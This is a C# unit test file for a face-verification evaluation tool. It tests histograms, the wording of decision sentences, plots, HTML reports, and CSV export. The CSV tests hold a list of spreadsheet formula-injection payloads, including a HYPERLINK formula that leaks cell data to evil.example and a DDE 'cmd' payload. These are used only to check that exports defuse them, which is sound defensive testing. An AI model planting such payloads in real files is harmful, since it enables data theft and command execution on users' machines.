using FaceEval.Core.Evaluation;
using FaceEval.Core.Metrics;
using FaceEval.Core.Reporting;
using OpenCvSharp;

namespace FaceEval.Core.Tests;

/// <summary>Score histograms, plots and the HTML report.</summary>
public class ReportingTests
{
    [Fact]
    public void HistogramCountsEachScoreOnceInItsBin()
    {
        var set = ScoreSet.Create(new[] { 0.5f, 0.6f, 0.9f, 1.0f }, new[] { 0f, 0.1f, 0.5f });
        var h = ScoreHistograms.Of(set, bins: 4);
        Assert.Equal(0, h.Low, 6);
        Assert.Equal(0.25, h.BinWidth, 6);
        Assert.Equal(new long[] { 0, 0, 2, 2 }, h.Genuine); // 0.5 opens bin 2; 1.0, the top edge, is in the last bin
        Assert.Equal(new long[] { 2, 0, 1, 0 }, h.Impostor);
        Assert.Equal(0.625, h.Centre(2), 6);
    }

    [Fact]
    public void HistogramOfEqualScoresIsOneBarInTheMiddle()
    {
        var h = ScoreHistograms.Of(ScoreSet.Create(new[] { 0.3f, 0.3f }, new[] { 0.3f }, genuineFailures: 2), bins: 5);
        Assert.Equal(new long[] { 0, 0, 2, 0, 0 }, h.Genuine); // the two failures to enrol have no score and no bin
        Assert.Equal(new long[] { 0, 0, 1, 0, 0 }, h.Impostor);
    }

    internal static VerificationResult Result(string model, double separation, int seed)
    {
        var r = new Random(seed);
        float Draw(double mean) => (float)(mean + 0.1 * Math.Sqrt(-2 * Math.Log(1 - r.NextDouble())) * Math.Cos(2 * Math.PI * r.NextDouble()));
        var set = ScoreSet.Create(Enumerable.Range(0, 2_000).Select(_ => Draw(separation)).ToArray(), Enumerable.Range(0, 50_000).Select(_ => Draw(0)).ToArray());
        return VerificationEvaluator.Evaluate(model, set, folds: 0);
    }

    [Fact]
    public void TarAtFarTableShowsTheThresholdIntervalAndTheTransferCheckOnlyWhenMeasured()
    {
        var plain = Result("eagle", 0.45, 1);
        var targets = plain.OperatingPoints.Select(p => p.TargetFar).ToArray();
        var transfer = targets.Select((t, k) => new ThresholdTransfer { Model = "eagle", TargetFar = t, TransferFarRatio = 1.25 + k, TransferFarRatioMax = 3.5 + k, TransferTar = 0.875 }).ToArray();
        var checkedResult = plain.WithIntervals(targets.Select(_ => new Interval(0.5, 0.6)).ToArray(), new Interval(0.1, 0.2), 50, 0.95, targets.Select(_ => new Interval(0.3125, 0.4375)).ToArray())
            .WithTransfer(transfer, 20);
        string Html(VerificationResult r) { var html = new HtmlBuilder(); new TarAtFarSection(new[] { r }).Render(html); return html.ToString(); }
        string shown = Html(checkedResult), bare = Html(plain);
        Assert.Contains("[0.3125, 0.4375]", shown);
        Assert.Contains("×1.25", shown);
        Assert.Contains("max ×3.50", shown);
        Assert.Contains("87.50%", shown);
        Assert.DoesNotContain("×", bare);
        Assert.DoesNotContain("new people", bare);
    }

    private static ModelComparison Comparison(string metric, double a, double b, double lower, double upper, double p, double adjusted, string verdict, double far = 1e-3) => new()
    {
        ModelA = "dingo", ModelB = "eagle", Metric = metric, TargetFar = metric == "Eer" ? double.NaN : far,
        ValueA = a, ValueB = b, Difference = a - b, Lower = lower, Upper = upper, PValue = p, AdjustedPValue = adjusted,
        BootstrapCount = 1000, ConfidenceLevel = 0.95, Verdict = verdict,
    };

    [Fact]
    public void DecisionSentencesNameTheBetterModelFirstWithItsInterval()
    {
        // B ahead on TAR: the sentence turns the interval of A − B into that of B − A.
        Assert.Equal("At FAR 1e-3, eagle accepts 58.3 points more genuine pairs than dingo [49.6, 66.3], p = 0.002, 1,000 paired identity replicates.",
            DecisionSection.Sentence(Comparison("Tar", 0.40, 0.983, -0.663, -0.496, 0.002, 0.002, ModelComparison.BBetter)));
        // A ahead on TAR, Holm moved p, not significant.
        Assert.Equal("At FAR 1e-2, dingo accepts 1.5 points more genuine pairs than eagle [-0.5, 3.0], p = 0.41 (Holm-adjusted), 1,000 paired identity replicates; not a significant difference.",
            DecisionSection.Sentence(Comparison("Tar", 0.915, 0.90, -0.005, 0.03, 0.205, 0.41, ModelComparison.NoSignificantDifference, 1e-2)));
        // EER: lower is better; the interval is of how much lower (B − A when A is ahead).
        Assert.Equal("eagle's EER is 22.7 points lower than dingo's [19.5, 25.9], p < 0.001 (Holm-adjusted), 1,000 paired identity replicates.",
            DecisionSection.Sentence(Comparison("Eer", 0.231, 0.004, 0.195, 0.259, 0.0004, 0.0008, ModelComparison.BBetter)));
        Assert.Equal("dingo's EER is 2.0 points lower than eagle's [1.0, 3.0], p = 0.01, 1,000 paired identity replicates.",
            DecisionSection.Sentence(Comparison("Eer", 0.03, 0.05, -0.03, -0.01, 0.01, 0.01, ModelComparison.ABetter)));
        Assert.Equal("At FAR 1e-3, dingo and eagle accept the same share of genuine pairs [-1.0, 1.0], p = 1, 1,000 paired identity replicates; not a significant difference.",
            DecisionSection.Sentence(Comparison("Tar", 0.5, 0.5, -0.01, 0.01, 1, 1, ModelComparison.NoSignificantDifference)));
        // The binomial methods combine the models' intervals by the MOVER: the sentence names it.
        Assert.Equal("At FAR 1e-3, eagle accepts 58.3 points more genuine pairs than dingo [49.6, 66.3], p < 0.001, Wilson MOVER over 1,000 paired identity replicates.",
            DecisionSection.Sentence(Comparison("Tar", 0.40, 0.983, -0.663, -0.496, 0.0004, 0.0004, ModelComparison.BBetter) with { IntervalMethod = IntervalMethod.Wilson }));
        Assert.Equal("dingo's EER is 2.0 points lower than eagle's [1.0, 3.0], p = 0.01, ClopperPearson MOVER over 1,000 paired identity replicates.",
            DecisionSection.Sentence(Comparison("Eer", 0.03, 0.05, -0.03, -0.01, 0.01, 0.01, ModelComparison.ABetter) with { IntervalMethod = IntervalMethod.ClopperPearson }));
    }

    [Fact]
    public void DecisionComesFirstWithTheComparisonsThresholdsAndCalibration()
    {
        var results = new[] { Result("dingo", 0.2, 1), Result("eagle <b>", 0.45, 2) };
        var comparisons = new[]
        {
            Comparison("Tar", 0.4, 0.98, -0.66, -0.5, 0.002, 0.002, ModelComparison.BBetter) with { ModelB = "eagle <b>" },
            Comparison("Eer", 0.23, 0.004, 0.19, 0.26, 0.002, 0.002, ModelComparison.BBetter) with { ModelB = "eagle <b>" },
        };
        string plainHtml = VerificationReport.Html(results, Array.Empty<ReportSetting>());
        Assert.DoesNotContain("<h2>Decision</h2>", plainHtml);
        string html = VerificationReport.Html(results, Array.Empty<ReportSetting>(), comparisons: comparisons);
        Assert.StartsWith("Decision</h2>", html.Split("<h2>")[1]);
        Assert.Contains("eagle &lt;b&gt; accepts 58.0 points more genuine pairs than dingo [50.0, 66.0]", html);
        Assert.DoesNotContain("eagle <b>", html);
        Assert.Contains("Measure with -TransferCheck 20", html);
        Assert.Contains("add -Calibrate", html);

        var calibrated = results.Select((r, m) => r.WithCalibration(new ModelCalibration
        {
            Model = r.Model, Slope = 20 + 10 * m, Intercept = -5, Cllr = 0.3, MinCllr = 0.25, CalibrationLoss = 0.05,
            Reliability = new[] { new ReliabilityBin { Low = 0, High = 0.1, MeanPredicted = 0.05, Observed = 0.02 }, new ReliabilityBin { Low = 0.9, High = 1, MeanPredicted = 0.95, Observed = 0.97 } },
        })).ToArray();
        string withCalibration = VerificationReport.Html(calibrated, Array.Empty<ReportSetting>(), comparisons: comparisons);
        Assert.DoesNotContain("add -Calibrate", withCalibration);
        Assert.Contains("<td>0.0500</td>", withCalibration); // the calibration loss
        Assert.Contains("Reliability diagram", withCalibration);
        Assert.Null(VerificationPlots.Reliability(results));
        Assert.NotNull(VerificationPlots.Reliability(calibrated));
    }

    [Fact]
    public void PlotsDrawOneColouredSeriesPerModelInPngAndSvg()
    {
        var results = new[] { Result("eagle", 0.45, 1), Result("owl", 0.3, 2) };
        var plots = VerificationPlots.Render(results);
        Assert.Equal(new[] { "roc", "det", "scores" }, plots.Select(p => p.Name));
        foreach (var plot in plots)
        {
            using var image = Cv2.ImDecode(plot.Png, ImreadModes.Color);
            Assert.Equal(VerificationPlots.Width, image.Width);
            Assert.Equal(VerificationPlots.Height, image.Height);
            // Category10's first two colours (BGR): blue 1f77b4 for the first model, orange ff7f0e for the second.
            Assert.True(CountColour(image, new Vec3b(0xb4, 0x77, 0x1f)) > 200, $"{plot.Name}: the first model's line is missing");
            Assert.True(CountColour(image, new Vec3b(0x0e, 0x7f, 0xff)) > 200, $"{plot.Name}: the second model's line is missing");
            Assert.Contains("eagle", plot.Svg);
            Assert.Contains("owl", plot.Svg);
            Assert.Contains("<svg", plot.Svg);
            if (Environment.GetEnvironmentVariable("FACEEVAL_KEEP_PLOTS") is { } keep) File.WriteAllBytes(Path.Combine(keep, plot.Name + ".png"), plot.Png);
        }
        string folder = Path.Combine(Path.GetTempPath(), "faceeval-plots-" + Guid.NewGuid().ToString("N"));
        try
        {
            var written = VerificationPlots.Write(plots, folder);
            Assert.Equal(new[] { "det.png", "det.svg", "roc.png", "roc.svg", "scores.png", "scores.svg" }, written.Select(Path.GetFileName).Order());
            Assert.All(written, f => Assert.True(new FileInfo(f).Length > 1000, f));
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    private static int CountColour(Mat image, Vec3b colour)
    {
        image.GetArray(out Vec3b[] pixels);
        int n = 0;
        foreach (var p in pixels)
            if (Math.Abs(p.Item0 - colour.Item0) + Math.Abs(p.Item1 - colour.Item1) + Math.Abs(p.Item2 - colour.Item2) < 30) n++;
        return n;
    }

    private sealed class NoteSection(string title, string note) : IReportSection
    {
        public string Title => title;
        public void Render(HtmlBuilder html) => html.Raw("<p>").Text(note).Raw("</p>\n");
    }

    [Fact]
    public void AnAnalysisAddsItsOwnSectionWithoutTouchingTheOthers()
    {
        var results = new[] { Result("eagle", 0.45, 1) };
        var sections = VerificationReport.Sections(results, Array.Empty<ReportSetting>()).Append(new NoteSection("Service <account>", "p50 & p99")).ToArray();
        string html = VerificationReport.Page(sections, results).ToHtml();
        Assert.EndsWith("<h2>Service &lt;account&gt;</h2>\n<p>p50 &amp; p99</p>\n</body>\n</html>\n", html);
        Assert.Equal(VerificationReport.Html(results, Array.Empty<ReportSetting>()).Split("<h2>").Length + 1, html.Split("<h2>").Length);
    }

    [Fact]
    public void ReportIsSelfContainedAndShowsEveryModelSettingAndPoint()
    {
        var results = new[] { Result("eagle", 0.45, 1), Result("<b>owl</b>", 0.3, 2) };
        string html = VerificationReport.Html(results, new[] { new ReportSetting("Convention", "Strict"), new ReportSetting("Seed", "7") },
            generatedAt: new DateTimeOffset(2026, 11, 28, 8, 0, 0, TimeSpan.Zero));
        Assert.Contains("eagle", html);
        Assert.Contains("&lt;b&gt;owl&lt;/b&gt;", html); // names are text, never markup
        Assert.DoesNotContain("<b>owl", html);
        Assert.Contains("<th class=\"l\">Seed</th><td class=\"l\">7</td>", html);
        Assert.Contains("2026-11-28 08:00:00 UTC", html);
        // The sections in page order.
        var headings = System.Text.RegularExpressions.Regex.Matches(html, "<h2>([^<]*)</h2>").Select(m => m.Groups[1].Value);
        Assert.Equal(new[] { "Settings", "Data", "Summary", "TAR at FAR", "Plots", "Conventions" }, headings);
        Assert.Equal(3, html.Split("src=\"data:image/png;base64,").Length - 1);
        Assert.DoesNotContain("http", html); // nothing to fetch: opens offline
        // 50,000 impostor pairs: FAR 1e-4 is measurable, 1e-5 and 1e-6 are not, in both columns.
        Assert.Equal(4, html.Split("<td class=\"ne\">n/e").Length - 1);
        var tar = results[0].At(1e-3)!;
        Assert.Contains($"<b>{tar.Tar.ToString("0.00%", System.Globalization.CultureInfo.InvariantCulture)}</b>", html);
    }
}

/// <summary>The CSV files FaceEval writes: RFC 4180 quoting, and no text a spreadsheet would run as a formula.</summary>
public class CsvTests
{
    public static TheoryData<string> HostileNames() => new()
    {
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1", "\n=1+1", "\0=1", "  =1+1", "\u00a0=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201",
        "a,b", "say \"hi\"", "\"", "two\nlines", "two\r\nlines", "trailing space ", "'already", "plain", "",
    };

    /// <summary>RFC 4180, read independently of the writer: quoted fields with doubled quotes, any line breaks inside.</summary>
    internal static List<List<string>> Parse(string text)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var field = new System.Text.StringBuilder();
        bool quoted = false, wasQuoted = false;
        for (int i = 0; i < text.Length; i++)
        {
            char c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"') { field.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else field.Append(c);
            }
            else if (c == '"')
            {
                Assert.True(field.Length == 0, $"a quote inside an unquoted field at {i}");
                quoted = wasQuoted = true;
            }
            else if (c == ',') { row.Add(field.ToString()); field.Clear(); wasQuoted = false; }
            else if (c == '\n' || c == '\r')
            {
                if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n') i++;
                row.Add(field.ToString()); field.Clear(); wasQuoted = false;
                rows.Add(row); row = new List<string>();
            }
            else
            {
                Assert.False(wasQuoted, $"text after a closing quote at {i}");
                Assert.False(c is '\r' or '\n', "a bare line break inside a field");
                field.Append(c);
            }
        }
        Assert.False(quoted, "the file ends inside a quoted field");
        if (field.Length > 0 || row.Count > 0) { row.Add(field.ToString()); rows.Add(row); }
        return rows;
    }

    /// <summary>What a spreadsheet could take for a formula: OWASP's characters, their full-width forms, after any blanks.</summary>
    internal static bool LooksLikeAFormula(string field)
    {
        if (field.Length > 0 && field[0] is '\t' or '\r' or '\n' or '\0') return true;
        string t = field.TrimStart();
        return t.Length > 0 && t[0] is '=' or '+' or '-' or '@' or '\uff1d' or '\uff0b' or '\uff0d' or '\uff20';
    }

    [Theory]
    [MemberData(nameof(HostileNames))]
    public void RocCsvQuotesEveryModelNameAndDefusesFormulas(string model)
    {
        var result = VerificationEvaluator.Evaluate(model, ScoreSet.Create(new[] { 0.9f, 0.8f, 0.3f }, new[] { 0.5f, 0.2f, 0.1f }), folds: 0);
        var rows = Parse(RocCsv.Text(new[] { result }));
        Assert.Equal(new[] { "model", "threshold", "far", "tar" }, rows[0]);
        Assert.Equal(result.Roc.Length + 1, rows.Count);
        string expected = LooksLikeAFormula(model) ? "'" + model : model;
        foreach (var row in rows.Skip(1))
        {
            Assert.Equal(4, row.Count);
            Assert.Equal(expected, row[0]);
            Assert.False(LooksLikeAFormula(row[0]), $"'{row[0]}' could run as a formula");
            foreach (var number in row.Skip(1))
                Assert.True(double.TryParse(number, System.Globalization.NumberStyles.Float, System.Globalization.CultureInfo.InvariantCulture, out _), number);
        }
    }
}

